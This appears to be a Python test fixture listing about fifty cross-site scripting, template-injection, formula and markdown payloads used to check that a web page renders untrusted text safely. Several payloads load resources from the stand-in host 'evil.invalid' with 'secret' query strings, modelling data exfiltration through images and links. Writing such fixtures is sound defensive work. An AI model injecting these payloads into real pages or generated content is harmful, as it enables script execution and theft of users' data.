"""Texts that would run, load or send something if a page took them for more than text.

Each would set `window.canary`, open a dialog, or ask `evil.invalid`. Those in `NAMES` have no comma
and no slash, at which a file name would end, and are no longer than a tag may be.
"""

EVIL = "evil.invalid"

NAMES = (
    "<script>canary=1<\\script>",
    "<img src=x onerror=canary=2>",
    "<svg onload=canary=3>",
    "<body onload=canary=4>",
    "<details open ontoggle=canary=5>x",
    "<input autofocus onfocus=canary=6>",
    "<video src=x onerror=canary=7>",
    "<b onmouseover=canary=8>hover",
    '"><img src=x onerror=canary=9>',
    "'><svg onload=canary=10>",
    '" autofocus onfocus="canary=11" x="',
    "' onmouseover='canary=12' x='",
    "`onload=canary=13`",
    "<<b>script>canary=14",
    "<scr<script>ipt>canary=15",
    "&lt;img src=x onerror=canary=16&gt;",
    "&#60;svg onload=canary=17&#62;",
    "\\u003csvg onload=canary=18\\u003e",
    "javascript:canary=19",
    "<a href=javascript:canary=20>click",
    "{{constructor.constructor('canary=21')()}}",
    "{% debug %}${canary=22}#{canary=22}",
    "<template><svg onload=canary=23>",
    "<math><mi xlink:href=javascript:canary=24>",
    "--><svg onload=canary=25><!--",
    "]]><svg onload=canary=26>",
    "<p hx-get=x hx-trigger=load hx-on:load=canary=27>",
    "<b data-stream=x data-final=x>canary=28",
    "=HYPERLINK(canary=29)",
    "<style>*{color:red}canary=30",
)
LONG = (
    f"<script src=//{EVIL}/31.js></script>",
    f"<img src=https://{EVIL}/32?secret=1>",
    f"<link rel=stylesheet href=https://{EVIL}/33.css>",
    f"<iframe src=https://{EVIL}/34></iframe><iframe srcdoc='<script>parent.canary=34</script>'>",
    f"<base href=https://{EVIL}/><meta http-equiv=refresh content='0;url=https://{EVIL}/35'>",
    f"<object data=https://{EVIL}/36></object><embed src=https://{EVIL}/36>",
    f"<form action=https://{EVIL}/37><button autofocus>x</button></form>",
    f"<div style='background:url(https://{EVIL}/38)'>x</div>",
    "</textarea></title></script><script>alert(39)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(40)>'>",
    "<svg><style><img src=x onerror=alert(41)></style></svg>",
)
MARKDOWN = (
    f"![picture](https://{EVIL}/42?secret=everything)",
    f"![picture][evil]\n\n[evil]: https://{EVIL}/43",
    "[click](javascript:canary=44)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCg0NSk8L3NjcmlwdD4=)",
    f"<https://{EVIL}/46> and [link](https://{EVIL}/47?secret=1)",
    f"[1]: https://{EVIL}/48",
    "```html\n<script>canary=49</script>\n```",
    '[x](" onmouseover="canary=50) ![x](x" onerror="canary=51)',
)
ALL = (*NAMES, *LONG, *MARKDOWN)
